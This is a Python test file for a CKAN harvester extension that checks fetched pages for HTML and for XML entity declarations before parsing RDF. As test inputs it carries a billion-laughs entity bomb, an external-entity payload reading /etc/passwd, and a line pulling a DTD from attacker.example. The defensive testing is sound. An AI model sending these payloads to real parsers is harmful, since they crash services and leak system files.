"""What the harvester checks on a fetched page before parsing it: a web page instead of RDF, and XML
entity declarations (entity-expansion bombs, external entities)."""
import pytest

from ckanext.ikoma.net.content import has_xml_entity_declarations, looks_like_html

TURTLE = b"@prefix dcat: <http://www.w3.org/ns/dcat#> .\n<https://example.org/c> a dcat:Catalog .\n"
RDF_XML = (b'<?xml version="1.0" encoding="utf-8"?>\n'
           b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/>\n')
BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description>&lol9;</rdf:Description></rdf:RDF>
"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE rdf:RDF [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">&secret;</rdf:RDF>
"""


@pytest.mark.parametrize("content, content_type", [
    (b"<!DOCTYPE html><html><body>Portal</body></html>", None),
    (b"\n\n   <!doctype HTML>\n<html lang='ja'>", "application/octet-stream"),
    (b"<html lang='ja'><head><title>Login</title></head></html>", "text/plain"),
    ("\ufeff<!DOCTYPE html>".encode(), None),  # UTF-8 byte order mark
    ("<!DOCTYPE html>".encode("utf-16"), None),
    (b'<?xml version="1.0"?>\n<html xmlns="http://www.w3.org/1999/xhtml">', "application/xml"),
    (TURTLE, "text/html; charset=utf-8"),  # the server says so: believe it
    (TURTLE, "TEXT/HTML"),
])
def test_html_is_recognised(content, content_type):
    assert looks_like_html(content, content_type)


@pytest.mark.parametrize("content, content_type", [
    (TURTLE, "text/turtle"),
    (TURTLE, None),
    (RDF_XML, "application/rdf+xml"),
    (b'{"@context": {"dcat": "http://www.w3.org/ns/dcat#"}, "@type": "dcat:Catalog"}', "application/ld+json"),
    (b"# a catalog that mentions <html> in a comment\n" + TURTLE, "text/turtle"),
    (b"", None),
])
def test_rdf_is_not_html(content, content_type):
    assert not looks_like_html(content, content_type)


@pytest.mark.parametrize("content", [
    BILLION_LAUGHS,
    EXTERNAL_ENTITY,
    b'<!doctype r [<!entity % p SYSTEM "http://attacker.example/p.dtd"> %p;]><r/>',
    BILLION_LAUGHS.decode().encode("utf-16"),
])
def test_entity_declarations_are_found(content):
    assert has_xml_entity_declarations(content)


@pytest.mark.parametrize("content", [
    RDF_XML,
    b'<?xml version="1.0"?>\n<!DOCTYPE rdf:RDF>\n<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/>',
    TURTLE,
    b'<https://example.org/d> <http://purl.org/dc/terms/description> "How to write <!ENTITY x> in XML" .',
    b"",
])
def test_documents_without_entity_declarations_pass(content):
    assert not has_xml_entity_declarations(content)
